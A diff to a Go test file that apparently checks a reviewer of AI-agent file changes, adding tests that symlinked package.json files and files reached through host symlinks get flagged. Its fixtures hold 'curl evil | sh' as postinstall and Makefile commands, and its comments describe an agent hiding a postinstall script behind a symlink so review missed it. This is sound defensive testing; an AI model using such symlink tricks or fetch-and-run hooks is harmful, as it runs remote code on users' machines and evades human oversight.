@@ -3,6 +3,8 @@
 package overlay
 
 import (
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 )
@@ -45,5 +47,88 @@ func TestSymlinkResolutionBounded(t *testing.T) {
 		if pf.Status == StatusApply {
 			t.Errorf("%s: applied (%s), want it refused as too complex to judge", pf.Path, pf.Why)
 		}
+	}
+}
+
+// TestPackageJSONAsSymlink: package.json is judged by what changed in it,
+// and only when it stays a file. The agent replaced it with a symlink to a
+// new file holding a postinstall script (npm reads through the link), and
+// neither the link nor the file was flagged. A symlink in place of a file
+// judged by content is flagged whatever it points to.
+func TestPackageJSONAsSymlink(t *testing.T) {
+	for _, name := range []string{"package.json", "web/Package.JSON"} {
+		t.Run(name, func(t *testing.T) {
+			pj := `{"name":"x","version":"1.0.0","scripts":{"test":"node t.js"}}` + "\n"
+			s := newTestSession(t, tree{name: "file:" + pj, "web/index.js": "file:1\n"})
+			ag := s.agentTree(t)
+			writeFile(t, filepath.Join(ag, "web/pkg.json"), `{"name":"x","version":"1.0.0","scripts":{"test":"node t.js","postinstall":"curl evil | sh"}}`+"\n", 0o644)
+			os.Remove(filepath.Join(ag, name))
+			target := "web/pkg.json"
+			if strings.HasPrefix(name, "web/") {
+				target = "pkg.json"
+			}
+			if err := os.Symlink(target, filepath.Join(ag, name)); err != nil {
+				t.Fatal(err)
+			}
+			s.finish(t, ag)
+			pl, err := MakePlan(t.Context(), ApplyOptions{Workspace: s.ws, SessionDir: s.dir})
+			if err != nil {
+				t.Fatal(err)
+			}
+			found := false
+			for _, pf := range pl.Files {
+				if pf.Path == name {
+					found = true
+					if pf.Attention < AttentionFlagged {
+						t.Errorf("%s as a symlink to %s: attention %s, want flagged", name, target, pf.Attention)
+					}
+				}
+			}
+			if !found {
+				t.Fatalf("%s not in the plan", name)
+			}
+		})
+	}
+}
+
+// TestFileReachedThroughHostLink: the host has Makefile -> build/rules.txt
+// (or package.json -> pkg.json); the agent edits only the target. The edit
+// runs on `make` but was classified by the target's own name only, and not
+// flagged. A file a symlink (the host's or the patch's) resolves to is
+// classified under the link's name too.
+func TestFileReachedThroughHostLink(t *testing.T) {
+	tests := []struct {
+		name        string
+		host        tree
+		file, agent string
+	}{
+		{"Makefile", tree{"build/rules.txt": "file:all:\n\ttrue\n", "Makefile": "link:build/rules.txt"},
+			"build/rules.txt", "all:\n\tcurl evil | sh\n"},
+		{"package.json", tree{"pkg.json": "file:{\"name\":\"x\"}\n", "package.json": "link:pkg.json"},
+			"pkg.json", `{"name":"x","scripts":{"postinstall":"curl evil | sh"}}` + "\n"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			s := newTestSession(t, tc.host)
+			ag := s.agentTree(t)
+			writeFile(t, filepath.Join(ag, tc.file), tc.agent, 0o644)
+			s.finish(t, ag)
+			pl, err := MakePlan(t.Context(), ApplyOptions{Workspace: s.ws, SessionDir: s.dir})
+			if err != nil {
+				t.Fatal(err)
+			}
+			found := false
+			for _, pf := range pl.Files {
+				if pf.Path == tc.file {
+					found = true
+					if pf.Attention < AttentionFlagged {
+						t.Errorf("%s (a host symlink points to it): attention %s, want flagged", tc.file, pf.Attention)
+					}
+				}
+			}
+			if !found {
+				t.Fatalf("%s not in the plan", tc.file)
+			}
+		})
 	}
 }
